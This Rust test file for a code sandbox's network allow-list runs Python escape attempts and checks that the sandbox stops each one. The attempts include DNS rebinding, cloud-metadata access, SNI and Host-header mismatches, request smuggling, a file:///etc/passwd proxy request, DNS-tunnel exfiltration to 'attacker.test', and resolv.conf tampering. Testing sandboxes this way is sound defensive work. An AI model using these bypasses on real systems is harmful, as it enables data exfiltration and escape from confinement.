//! The allow-list of the network: what real programs in real kernels reach, and the ways round it that they try.

use std::io::{Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, PrivateKeyDer};
use sponde::kernel::sandbox::limits::Limits;
use sponde::kernel::sandbox::probe::Tier;
use sponde::kernel::{
    Connection, ConnectionEnd, Connections, Kernel, KernelSource, LaunchOptions, NetworkContext,
    OutputEvent, Resolver, Sandbox,
};

use crate::sandbox::{as_somebody_else, bubblewrap, confined, printed, python, run};
use crate::support::launch_options;

/// What is in `/data.csv`.
const TABLE: &str = "a,b\n1,2\n3,4\n";

/// A server for HTTP, one for HTTPS and one that greets first, as many hosts.
struct Web {
    http: u16,
    https: u16,
    greeter: u16,
    /// `Host` and path of each request; `(connection)` where one came and no request.
    seen: Arc<Mutex<Vec<String>>>,
    udp: UdpSocket,
}

fn tls() -> Arc<rustls::ServerConfig> {
    let pem = |name| include_pem(name);
    let certificate = CertificateDer::from_pem_slice(pem("server.pem")).unwrap();
    let key = PrivateKeyDer::from_pem_slice(pem("server.key")).unwrap();
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_no_client_auth()
        .with_single_cert(vec![certificate], key)
        .unwrap();
    Arc::new(config)
}

/// Inside of this program, for it runs as somebody who cannot read the project as well.
fn include_pem(name: &str) -> &'static [u8] {
    match name {
        "server.key" => include_bytes!("../fixtures/tls/server.key"),
        "server.pem" => include_bytes!("../fixtures/tls/server.pem"),
        _ => include_bytes!("../fixtures/tls/ca.pem"),
    }
}

/// Serves each connection of a new listener on a thread; the process ends them.
fn listen(serve: impl Fn(TcpStream) + Send + Sync + 'static) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let serve = Arc::new(serve);
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let serve = Arc::clone(&serve);
            std::thread::spawn(move || serve(stream));
        }
    });
    port
}

impl Web {
    fn new() -> Self {
        let seen = Arc::<Mutex<Vec<String>>>::default();
        let plain = Arc::clone(&seen);
        let http = listen(move |stream| requests(stream, &plain));
        let (config, secret) = (tls(), Arc::clone(&seen));
        let https = listen(move |stream| {
            let connection = rustls::ServerConnection::new(Arc::clone(&config)).unwrap();
            requests(rustls::StreamOwned::new(connection, stream), &secret);
        });
        let greeter = listen(|mut stream| {
            let _ = stream.write_all(b"hello\n");
            let mut line = [0; 4];
            if stream.read_exact(&mut line).is_ok() {
                let _ = stream.write_all(&line);
            }
        });
        Self {
            http,
            https,
            greeter,
            seen,
            udp: UdpSocket::bind("127.0.0.1:0").unwrap(),
        }
    }

    /// Names lead here; some to where they should not.
    fn resolver(&self) -> Resolver {
        let (http, https, greeter) = (self.http, self.https, self.greeter);
        let asked = AtomicUsize::new(0);
        let resolve = move |name: &str, port: u16| -> Vec<SocketAddr> {
            let address = |text: &str| SocketAddr::new(text.parse::<IpAddr>().unwrap(), port);
            match name {
                "private.test" => return vec![address("10.255.255.1")],
                "metadata.test" => return vec![address("169.254.169.254")],
                // Public for who looks first, this machine for who looks again.
                "rebound.test" if asked.fetch_add(1, Ordering::Relaxed).is_multiple_of(2) => {
                    return vec![address("192.0.2.1")];
                }
                _ => {}
            }
            let port = match port {
                80 => http,
                443 => https,
                2222 => greeter,
                other => other,
            };
            vec![SocketAddr::new("127.0.0.1".parse().unwrap(), port)]
        };
        Resolver::Given(Arc::new(resolve))
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

/// Answers requests of HTTP/1.1, however many come.
fn requests(mut stream: impl std::io::Read + std::io::Write, seen: &Mutex<Vec<String>>) {
    let mut head = Vec::new();
    let mut any = false;
    loop {
        let mut byte = [0];
        if let Ok(1) = stream.read(&mut byte) {
            head.push(byte[0]);
        } else {
            if !any || !head.is_empty() {
                seen.lock().unwrap().push("(connection)".to_owned());
            }
            return;
        }
        if !head.ends_with(b"\r\n\r\n") {
            continue;
        }
        any = true;
        let text = String::from_utf8_lossy(&head).into_owned();
        let path = text.split(' ').nth(1).unwrap_or_default();
        let host = text.lines().find_map(|line| {
            line.to_ascii_lowercase()
                .strip_prefix("host: ")
                .map(str::to_owned)
        });
        seen.lock()
            .unwrap()
            .push(format!("{} {path}", host.unwrap_or_default()));
        let length = format!("Content-Length: {}", TABLE.len());
        let body = if text.starts_with("HEAD") { "" } else { TABLE };
        let answer = format!("HTTP/1.1 200 OK\r\nContent-Type: text/csv\r\n{length}\r\n\r\n{body}");
        if stream.write_all(answer.as_bytes()).is_err() {
            return;
        }
        let _ = stream.flush();
        head.clear();
    }
}

const ALLOWED: &str = "allow:good.test=127.0.0.0/8,*.good.test=127.0.0.0/8,good.test:2222=127.0.0.0/8,rebound.test,private.test,\
                       metadata.test";

/// A kernel's directory, with the authority that signed the servers' certificate.
struct Place {
    home: tempfile::TempDir,
    connections: Connections,
}

impl Place {
    fn new() -> Self {
        let home = tempfile::tempdir_in("/var/tmp").unwrap();
        let project = home.path().join("project");
        std::fs::create_dir_all(&project).unwrap();
        std::fs::write(project.join("ca.pem"), include_pem("ca.pem")).unwrap();
        Self {
            home,
            connections: Connections::default(),
        }
    }

    fn options(&self, kernel: KernelSource, tier: Tier, web: &Web) -> LaunchOptions {
        let project = self.home.path().join("project");
        let mut options = launch_options(kernel, &project);
        options.runtime_dir = self.home.path().join("runtime");
        let own = project.join("ca.pem").to_string_lossy().into_owned();
        for name in ["SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE"] {
            options.env.retain(|(other, _)| other != name);
            options.env.push((name.to_owned(), own.clone()));
        }
        options.sandbox = confined(tier, self.home.path(), Limits::default());
        if let Sandbox::Confined(confinement) = &mut options.sandbox {
            confinement.network = ALLOWED.parse().unwrap();
            confinement.network_context = NetworkContext {
                resolver: web.resolver(),
                connections: self.connections.clone(),
                ..NetworkContext::default()
            };
        }
        options
    }
}

/// What the cells use.
const PRELUDE: &str = r"
import os, socket, ssl, subprocess, sys, time, urllib.request, warnings
warnings.simplefilter('ignore')
PROXY = os.environ['HTTPS_PROXY']
AUTH = PROXY.rpartition('@')[0].rpartition('/')[2]
PROXY_AT = ('127.0.0.1', int(PROXY.rpartition(':')[2]))
direct = urllib.request.build_opener(urllib.request.ProxyHandler({}))

def read(url, opener=urllib.request):
    open = opener.open if opener is direct else opener.urlopen
    return open(url, timeout=30).read().decode()

def to_proxy(text):
    sock = socket.create_connection(PROXY_AT, 30)
    if AUTH:
        import base64
        line = 'Proxy-Authorization: Basic ' + base64.b64encode(AUTH.encode()).decode()
        head, rest = text.split('\r\n', 1)
        text = head + '\r\n' + line + '\r\n' + rest
    sock.sendall(text.encode())
    return sock

def answer(sock):
    text = b''
    try:
        while more := sock.recv(65536):
            text += more
    except ConnectionResetError:
        pass
    return text.decode(errors='replace')

def asked(text):
    got = answer(to_proxy(text))
    return got

def tunnel(place):
    sock = to_proxy(f'CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n')
    head = b''
    while b'\r\n\r\n' not in head:
        more = sock.recv(1)
        if not more:
            break
        head += more
    if b' 200 ' not in head.split(b'\r\n')[0]:
        raise PermissionError((head + sock.recv(4096)).decode())
    return sock

def secret(sock, name):
    context = ssl.create_default_context()
    context.check_hostname = name is not None
    if name is None:
        context.verify_mode = ssl.CERT_NONE
    with context.wrap_socket(sock, server_hostname=name) as sock:
        sock.sendall(b'GET /secret HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n')
        return sock.recv(100)

def ok(text):
    # Of an answer: was it one of the server?
    if ' 200 ' not in text.split('\r\n')[0]:
        raise PermissionError(text)

def curl(*arguments):
    return subprocess.run(['curl', '-sS', '--max-time', '30', *arguments], capture_output=True, text=True, check=True).stdout

def attempt(code):
    try:
        exec(code, globals())
    except Exception as error:
        print('stopped:', type(error).__name__, error)
    else:
        print('open')
";

/// What works on both tiers: programs that know of a proxy.
const WITH_PROXY: &[&str] = &[
    "read('https://good.test/data.csv')",
    "read('http://good.test/data.csv')",
    "read('https://www.good.test/data.csv')",
    "__import__('requests').get('https://good.test/data.csv', timeout=30).text",
    "__import__('requests').get('http://good.test/data.csv', timeout=30).text",
    "__import__('pandas').read_csv('https://good.test/data.csv').to_csv(index=False)",
    "__import__('pandas').read_csv('http://good.test/data.csv').to_csv(index=False)",
    "curl('https://good.test/data.csv')",
    "curl('http://good.test/data.csv')",
];

/// What works in namespaces: programs that know nothing of it.
const WITHOUT_PROXY: &[&str] = &[
    "read('https://good.test/data.csv', direct)",
    "read('http://good.test/data.csv', direct)",
    "read('https://WWW.good.test/data.csv', direct)",
    "curl('--noproxy', '*', 'https://good.test/data.csv')",
    "curl('--noproxy', '*', 'http://good.test/data.csv')",
];

/// Name; Python that raises an exception if it is stopped.
const ATTEMPTS: &[(&str, &str)] = &[
    ("another name", "read('https://other.test/data.csv')"),
    (
        "another name over HTTP",
        "read('http://other.test/data.csv')",
    ),
    (
        "another name without the proxy",
        "read('https://other.test/data.csv', direct)",
    ),
    ("a longer name", "read('https://notgood.test/data.csv')"),
    (
        "a host of this machine by its address",
        "socket.create_connection(('127.0.0.1', HTTPS), 5)",
    ),
    ("the same through the proxy", "tunnel(f'127.0.0.1:{HTTP}')"),
    ("the same in other words", "tunnel(f'2130706433:{HTTP}')"),
    (
        "the same as version 6",
        "tunnel(f'[::ffff:127.0.0.1]:{HTTP}')",
    ),
    ("localhost through the proxy", "tunnel(f'localhost:{HTTP}')"),
    (
        "another machine by its address",
        "socket.create_connection(('192.0.2.1', 443), 5)",
    ),
    (
        "the same through the proxy, by address",
        "tunnel('192.0.2.1:443')",
    ),
    ("a port that was not named", "tunnel(f'good.test:{HTTPS}')"),
    (
        "a private address behind an allowed name",
        "tunnel('private.test:443')",
    ),
    (
        "a private address over HTTP",
        "read('http://private.test/')",
    ),
    (
        "the place of a cloud's credentials",
        "read('http://metadata.test/latest/meta-data/')",
    ),
    (
        "a name that changes its address",
        "[tunnel('rebound.test:80') for _ in range(4)]",
    ),
    (
        "another name within TLS",
        "secret(tunnel('good.test:443'), 'other.test')",
    ),
    (
        "no name within TLS",
        "secret(tunnel('good.test:443'), None)",
    ),
    (
        "another Host within a tunnel",
        "s = tunnel('good.test:80'); s.sendall(b'GET /secret HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n'); ok(answer(s))",
    ),
    (
        "another Host in a second request",
        "s = tunnel('good.test:80'); s.sendall(b'GET /data.csv HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n'); \
         s.sendall(b'GET /secret HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n'); got = answer(s); \
         assert 'another host' not in got, got",
    ),
    (
        "neither TLS nor HTTP",
        "s = tunnel('good.test:443'); s.sendall(b'SSH-2.0-secret\\r\\n'); assert s.recv(10)",
    ),
    (
        "HTTP/2 without TLS",
        "s = tunnel('good.test:80'); s.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'); assert s.recv(10)",
    ),
    (
        "a URL of one host and Host of another",
        "ok(asked('GET http://good.test/secret HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n'))",
    ),
    (
        "the other way round",
        "ok(asked('GET http://other.test/secret HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n'))",
    ),
    (
        "two hosts",
        "ok(asked('GET http://good.test/secret HTTP/1.1\\r\\nHost: good.test\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n'))",
    ),
    (
        "a host as somebody's name",
        "ok(asked('GET http://good.test@other.test/secret HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n'))",
    ),
    (
        "a URL of https",
        "ok(asked('GET https://good.test/secret HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n'))",
    ),
    (
        "a file",
        "ok(asked('GET file:///etc/passwd HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n'))",
    ),
    (
        "only a path",
        "ok(asked('GET /secret HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n'))",
    ),
    (
        "a request within a request",
        "got = asked('POST http://good.test/data.csv HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\
         Connection: close\\r\\n\\r\\n0\\r\\n\\r\\nGET http://other.test/secret HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'); \
         raise PermissionError(got)",
    ),
    (
        "a giant header",
        "ok(asked('GET http://good.test/secret HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\nX: ' + 'x' * 200000 + '\\r\\n\\r\\n'))",
    ),
    (
        "a thousand headers",
        "ok(asked('GET http://good.test/secret HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n' + 'X: y\\r\\n' * 1000 + '\\r\\n'))",
    ),
    ("a datagram to this machine", "datagram()"),
    (
        "a name as a message",
        "socket.getaddrinfo('c2VjcmV0LWRhdGE.attacker.test', 443)",
    ),
    (
        "a name of an allowed kind with a message",
        "assert lookups(200) == 0, 'none left'",
    ),
    (
        "another server of names",
        "assert dns('192.0.2.53'), 'no answer'",
    ),
];

/// What only namespaces stop in this way, or what is only there.
const IN_NAMESPACES: &[(&str, &str)] = &[
    (
        "another name within TLS, without the proxy",
        "secret(socket.create_connection(('good.test', 443), 30), 'other.test')",
    ),
    (
        "another Host without the proxy",
        "ok(over('good.test', b'GET /secret HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n'))",
    ),
    (
        "an address that stands for nothing",
        "secret(socket.create_connection(('127.1.200.200', 443), 30), 'good.test')",
    ),
    ("a low port", "socket.socket().bind(('127.0.0.1', 81))"),
    (
        "the right to take one",
        "assert int(next(l.split()[1] for l in open('/proc/self/status') if l.startswith('CapPrm')), 16), 'none'",
    ),
    (
        "the socket of the proxy itself",
        "ok(gate('CONNECT other.test:443 HTTP/1.1\\r\\n\\r\\n'))",
    ),
    ("a socket in its place", "os.rename(GATE, GATE + '2')"),
    (
        "a socket beside it",
        "socket.socket(socket.AF_UNIX).bind(GATE + '2')",
    ),
    (
        "another file with servers of names",
        "open('/etc/resolv.conf', 'a').write('nameserver 192.0.2.53')",
    ),
    (
        "other records of names",
        "assert dns('127.0.0.1', 16, 'good.test'), 'no records'",
    ),
];

const MORE_PRELUDE: &str = r"
import glob, struct
GATE = next(iter(glob.glob(os.path.dirname(os.path.dirname(os.environ['HOME'])) + '/n/s')), None)

def gate(text):
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(30)
    sock.connect(GATE)
    sock.sendall(text.encode())
    return answer(sock)

def over(host, request):
    sock = socket.create_connection((host, 80), 30)
    sock.sendall(request)
    return answer(sock)

def dns(server, kind=1, name='good.test'):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(3)
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
    sock.sendto(struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>BHH', 0, kind, 1), (server, 53))
    return struct.unpack('>H', sock.recv(512)[6:8])[0]

def datagram():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(b'x', ('127.0.0.1', UDP))
    raise PermissionError('sent to nobody')

def lookups(count):
    found = 0
    for n in range(count):
        try:
            socket.getaddrinfo(f'secret{n}.other.test', 443)
            found += 1
        except OSError:
            pass
    if found == 0:
        raise PermissionError('none found')
    return found
";

async fn start(place: &Place, tier: Tier, web: &Web) -> Kernel {
    let kernel = Kernel::launch(place.options(python(), tier, web))
        .await
        .unwrap();
    run(&kernel, PRELUDE).await;
    run(&kernel, MORE_PRELUDE).await;
    let udp = web.udp.local_addr().unwrap().port();
    let names = format!("HTTP, HTTPS, UDP = {}, {}, {udp}", web.http, web.https);
    run(&kernel, &names).await;
    kernel
}

async fn reaches(kernel: &Kernel, web: &Web, what: &[&str]) {
    for code in what {
        let before = web.seen().len();
        let text = printed(kernel, &format!("print({code})")).await;
        assert_eq!(text.replace("\r\n", "\n"), TABLE.trim(), "{code}");
        let seen = web.seen();
        let new = seen.get(before..).unwrap_or_default();
        assert!(
            new.iter().any(|seen| seen.ends_with("/data.csv")),
            "{code}: {new:?}"
        );
    }
}

async fn does_not_reach(kernel: &Kernel, web: &Web, attempts: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (name, code) in attempts {
        let what = printed(kernel, &format!("attempt({code:?})")).await;
        if !what.starts_with("stopped")
            || what.contains("NameError")
            || what.contains("SyntaxError")
        {
            wrong.push(format!("{name}: {what}"));
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
    let secrets: Vec<String> = web.seen();
    let secrets = secrets
        .iter()
        .filter(|seen| seen.contains("secret") || seen.contains("other"));
    assert_eq!(secrets.collect::<Vec<_>>(), Vec::<&String>::new());
    web.udp.set_nonblocking(true).unwrap();
    assert!(web.udp.recv(&mut [0]).is_err(), "a datagram came out");
}

/// Clients that send nothing, or too much, leave room for others.
async fn floods(kernel: &Kernel) {
    // A cell each: what is slow here has to end by itself before the next is served.
    for (code, expected) in [
        (
            "slow = [socket.create_connection(PROXY_AT, 30) for _ in range(300)]\n\
             for s in slow: s.sendall(b'GET http://good.test/')\n\
             print(read('http://good.test/data.csv').split()[0])\n\
             for s in slow: s.close()",
            "a,b",
        ),
        (
            "tunnels = [to_proxy('CONNECT good.test:443 HTTP/1.1\\r\\n\\r\\n') for _ in range(300)]\n\
             print(read('https://good.test/data.csv').split()[0])\n\
             for s in tunnels: s.close()",
            "a,b",
        ),
        (
            "print(len([read('http://good.test/data.csv') for _ in range(50)]))",
            "50",
        ),
    ] {
        assert_eq!(printed(kernel, code).await, expected);
    }
}

pub(crate) async fn namespaces(tier: Tier) {
    let (place, web) = (Place::new(), Web::new());
    let is_gvisor = matches!(tier, Tier::Gvisor { .. });
    let kernel = start(&place, tier, &web).await;
    reaches(&kernel, &web, WITH_PROXY).await;
    reaches(&kernel, &web, WITHOUT_PROXY).await;
    // A port that was named is for whatever is spoken there.
    let greeted = "s = socket.create_connection(('good.test', 2222), 30); f = s.makefile('rw'); print(f.readline().strip()); \
                   f.write('echo'); f.flush(); print(f.read(4))";
    assert_eq!(printed(&kernel, greeted).await, "hello\necho");
    does_not_reach(&kernel, &web, ATTEMPTS).await;
    // In gVisor everybody may take any port, of nobody but themselves.
    let is_open = |name: &str| is_gvisor && name == "a low port";
    let stopped = IN_NAMESPACES.iter().filter(|(name, _)| !is_open(name));
    let stopped: Vec<_> = stopped.copied().collect();
    does_not_reach(&kernel, &web, &stopped).await;
    floods(&kernel).await;
    // It works in what comes after it as well.
    kernel.restart().await.unwrap();
    run(&kernel, PRELUDE).await;
    reaches(&kernel, &web, &WITHOUT_PROXY[..1]).await;
    kernel.shutdown().await;
}

async fn landlock() {
    let (place, web) = (Place::new(), Web::new());
    let kernel = start(&place, Tier::Landlock, &web).await;
    reaches(&kernel, &web, WITH_PROXY).await;
    does_not_reach(&kernel, &web, ATTEMPTS).await;
    // Others on this machine have to know the word.
    let others = [(
        "without the word",
        "AUTH = ''; ok(asked('GET http://good.test/secret HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: close\\r\\n\\r\\n'))",
    )];
    let word = printed(&kernel, "print(AUTH)").await;
    does_not_reach(&kernel, &web, &others).await;
    run(&kernel, &format!("AUTH = {word:?}")).await;
    floods(&kernel).await;
    // SECURITY.md says that this is open: Landlock knows ports, and no addresses.
    let port: u16 = printed(&kernel, "print(PROXY_AT[1])")
        .await
        .parse()
        .unwrap();
    let elsewhere = TcpListener::bind(("127.0.0.2", port)).unwrap();
    let known = format!("attempt(\"socket.create_connection(('127.0.0.2', {port}), 5)\")");
    assert_eq!(printed(&kernel, &known).await, "open");
    drop(elsewhere);
    kernel.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_names_are_reached_and_others_are_not_in_bubblewrap() {
    namespaces(bubblewrap()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn allowed_names_are_reached_and_others_are_not_under_landlock() {
    landlock().await;
}

#[test]
fn an_ordinary_user_is_let_through_and_stopped_alike() {
    as_somebody_else(54323, &["sandbox_net::allowed_names"], 2);
}

/// What a cell said besides what it printed.
async fn remarks(kernel: &Kernel, code: &str) -> Vec<String> {
    let (outputs, _) = run(kernel, code).await;
    let remarks = outputs.into_iter().filter_map(|output| match output {
        OutputEvent::Lost(words) => Some(words),
        _ => None,
    });
    remarks.collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_refused_is_told_in_its_cell_and_written_down() {
    let (place, web) = (Place::new(), Web::new());
    let kernel = start(&place, bubblewrap(), &web).await;
    let allowed = "allowed are good.test=127.0.0.0/8, *.good.test=127.0.0.0/8, good.test:2222=127.0.0.0/8, rebound.test, \
                   private.test, metadata.test";
    let tried = "for _ in range(5): attempt(\"read('https://other.test/x')\")";
    assert_eq!(
        remarks(&kernel, tried).await,
        [format!(
            "the sandbox refused a connection to other.test:443: the host is not on the allow-list; {allowed}"
        )]
    );
    assert_eq!(
        remarks(
            &kernel,
            "attempt(\"socket.getaddrinfo('elsewhere.test', 80)\")"
        )
        .await,
        [format!(
            "the sandbox refused to look up elsewhere.test: the host is not on the allow-list; {allowed}"
        )]
    );
    let other_name =
        "attempt(\"secret(socket.create_connection(('good.test', 443), 30), 'other.test')\")";
    assert_eq!(
        remarks(&kernel, other_name).await,
        [format!(
            "the sandbox refused a connection to good.test:443: TLS inside it names another host, `other.test`; {allowed}"
        )]
    );
    // What is allowed is not worth a remark.
    let mut ended = place.connections.subscribe();
    let good = "print(len(read('https://good.test/data.csv')))";
    assert_eq!(remarks(&kernel, good).await, Vec::<String>::new());
    let connection = ended.recv().await.unwrap();
    let Connection {
        host,
        port,
        end,
        up,
        down,
    } = connection;
    assert_eq!(
        (host.as_str(), port, end),
        ("good.test", Some(443), ConnectionEnd::Allowed)
    );
    assert!(up > 200 && down > 500, "{up} {down}");
    let recent = place.connections.recent();
    let refused = |host: &str| {
        let of =
            |it: &&Connection| it.host == host && matches!(it.end, ConnectionEnd::Refused { .. });
        recent.iter().filter(of).count()
    };
    assert_eq!(
        (
            refused("other.test"),
            refused("elsewhere.test"),
            refused("good.test")
        ),
        (5, 1, 1)
    );
    kernel.shutdown().await;
}

/// A kernel of the installed ones.
fn other(name: &str) -> KernelSource {
    crate::matrix::installed(name)
}

#[tokio::test(flavor = "multi_thread")]
async fn programs_of_other_languages_are_let_through_by_name() {
    let (place, web) = (Place::new(), Web::new());
    let mut options = place.options(other("r"), bubblewrap(), &web);
    let kernel = Kernel::launch(options).await.unwrap();
    // libcurl of R takes the authority that curl takes.
    let with = "f <- tempfile(); download.file('https://good.test/data.csv', f, quiet = TRUE); cat(readLines(f), sep = '\\n')";
    assert_eq!(printed(&kernel, with).await, TABLE.trim());
    let without = "Sys.unsetenv(c('http_proxy', 'https_proxy', 'all_proxy', 'HTTPS_PROXY', 'HTTP_PROXY', 'ALL_PROXY'))\n\
                   cat(readLines(url('http://good.test/data.csv')), sep = '\\n')";
    assert_eq!(printed(&kernel, without).await, TABLE.trim());
    let refused = "tryCatch(download.file('https://other.test/x', f, quiet = TRUE), error = function(e) cat('stopped'), \
                   warning = function(e) cat('stopped'))";
    assert_eq!(printed(&kernel, refused).await, "stopped");
    kernel.shutdown().await;
    options = place.options(other("bash"), bubblewrap(), &web);
    let kernel = Kernel::launch(options).await.unwrap();
    let with =
        "curl -sS https://good.test/data.csv; curl -sS --noproxy '*' https://good.test/data.csv";
    let text = printed(&kernel, with).await.replace("\r\n", "\n");
    assert_eq!(text, format!("{TABLE}{TABLE}").trim());
    let refused = "curl -sS https://other.test/ || echo stopped; curl -sS --noproxy '*' https://other.test/ || echo stopped";
    let text = printed(&kernel, refused).await;
    assert_eq!(text.matches("stopped").count(), 2, "{text}");
    kernel.shutdown().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_copy_of_a_kernel_has_its_network() {
    for tier in [bubblewrap(), Tier::Landlock] {
        let (place, web) = (Place::new(), Web::new());
        let kernel = start(&place, tier, &web).await;
        let checkpoints = sponde::kernel::Checkpoints::new(&std::env::temp_dir());
        let point = kernel.checkpoint(&checkpoints).await.unwrap();
        run(&kernel, "import os; os.kill(os.getpid(), 9)").await;
        kernel.restore(&checkpoints, point.id).await.unwrap();
        reaches(&kernel, &web, &WITH_PROXY[..1]).await;
        let tried = "attempt(\"read('https://other.test/x')\")";
        assert_eq!(remarks(&kernel, tried).await.len(), 1);
        kernel.shutdown().await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_kernel_that_was_kept_has_a_network_again() {
    for tier in [bubblewrap(), Tier::Landlock] {
        let (place, web) = (Place::new(), Web::new());
        let home = place.home.path().to_owned();
        // Another process keeps it, and resolves nothing.
        let landlock = tier == Tier::Landlock;
        let output = std::process::Command::new(std::env::current_exe().unwrap())
            .args(["--exact", "sandbox_net::keeps_a_kernel", "--nocapture"])
            .env("SPONDE_TEST_KEEP_NET", &home)
            .env("SPONDE_TEST_KEEP_LANDLOCK", if landlock { "1" } else { "" })
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        let line = text.lines().find_map(|line| line.split("KEPT ").nth(1));
        let file =
            line.unwrap_or_else(|| panic!("{text}\n{}", String::from_utf8_lossy(&output.stderr)));
        let kernel = Kernel::launch(LaunchOptions {
            keep: true,
            adopt: Some(sponde::kernel::KeptKernelChoice {
                connection_file: file.into(),
                patience: std::time::Duration::from_mins(1),
            }),
            ..place.options(python(), tier, &web)
        })
        .await
        .unwrap();
        assert!(kernel.was_adopted().await.unwrap());
        reaches(&kernel, &web, &WITH_PROXY[..2]).await;
        let tried = "attempt(\"read('https://other.test/x')\")";
        assert_eq!(remarks(&kernel, tried).await.len(), 1);
        kernel.shutdown().await;
    }
}

/// The other process of the test above.
#[tokio::test(flavor = "multi_thread")]
async fn keeps_a_kernel() {
    let Some(home) = std::env::var_os("SPONDE_TEST_KEEP_NET") else {
        return;
    };
    let is_landlock = std::env::var_os("SPONDE_TEST_KEEP_LANDLOCK").is_some_and(|it| it == "1");
    let tier = if is_landlock {
        Tier::Landlock
    } else {
        bubblewrap()
    };
    let (place, web) = (Place::new(), Web::new());
    let mut options = place.options(python(), tier, &web);
    options.keep = true;
    options.runtime_dir = std::path::Path::new(&home).join("runtime");
    options.cwd = std::path::Path::new(&home).join("project");
    let project = options.cwd.join("ca.pem").to_string_lossy().into_owned();
    for (name, value) in &mut options.env {
        if name == "SSL_CERT_FILE" {
            value.clone_from(&project);
        }
    }
    let kernel = Kernel::launch(options).await.unwrap();
    run(&kernel, PRELUDE).await;
    let file = kernel.connection_file().await.unwrap();
    writeln!(std::io::stdout(), "KEPT {}", file.display()).unwrap();
    drop(kernel);
    // The handle is gone, and the kernel stays; its actor is done when the runtime ends.
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
}

#[test]
fn the_network_is_said_first_and_goes_with_the_session() {
    let sponde = crate::support::Sponde::new()
        .with("OPENAI_BASE_URL", crate::support::NOBODY)
        .with("OPENAI_API_KEY", "none");
    let first = |more: &[&str]| {
        let arguments = [&["--model", "none", "--kernel", "python3"], more].concat();
        let ended = sponde.run(&arguments);
        ended.stderr.lines().next().unwrap_or_default().to_owned()
    };
    let begin = "sandbox: workspace, code writes only in this directory";
    assert_eq!(
        first(&["--network", "allow:example.org,*.example.org:8443"]),
        format!("{begin}, network only to example.org, *.example.org:8443 (bubblewrap)")
    );
    assert!(first(&["--network", "allow:"]).starts_with("error: invalid value"));
    sponde.configure("network = { allow = [\"example.org\"] }\n");
    assert_eq!(
        first(&[]),
        format!("{begin}, network only to example.org (bubblewrap)")
    );
    assert_eq!(
        first(&["--network", "off"]),
        format!("{begin}, no network (bubblewrap)")
    );
    let doctor = sponde.run(&["doctor"]).stdout;
    let words = "sandbox: workspace, network only to example.org, by bubblewrap";
    assert!(doctor.contains(words), "{doctor}");
    sponde.configure("network = { allow = [\"not a host\"] }\n");
    let wrong = sponde.run(&["--model", "none"]);
    assert!(
        wrong.stderr.contains("`not a host` is not a host"),
        "{}",
        wrong.stderr
    );
}

#[test]
fn under_landlock_the_gaps_of_the_allow_list_are_said() {
    let sponde = crate::support::Sponde::new()
        .with("OPENAI_BASE_URL", crate::support::NOBODY)
        .with("OPENAI_API_KEY", "none")
        .with("PATH", "/nowhere");
    sponde.configure("network = { allow = [\"example.org\"] }\n");
    let chat = sponde.run(&["--model", "none", "--kernel", "python3"]);
    let line = "network only to example.org and only by HTTP_PROXY (Landlock)";
    assert!(chat.stderr.contains(line), "{}", chat.stderr);
    let doctor = sponde.run(&["doctor"]).stdout;
    let words = "code can connect to any machine at the one port of Sponde's proxy";
    assert!(doctor.contains(words), "{doctor}");
    // pip, to ask it for its index, is not there either.
    let pypi = sponde.run(&[
        "--model",
        "none",
        "--kernel",
        "python3",
        "--network",
        "allow:pypi",
    ]);
    let words = "the hosts of `pypi` were not found out: there is no Python with pip";
    assert!(pypi.stderr.contains(words), "{}", pypi.stderr);
}

#[test]
fn packages_are_installed_from_where_the_persons_tools_are_set_up() {
    let sponde = crate::support::Sponde::new();
    let install = "import subprocess, sys\n\
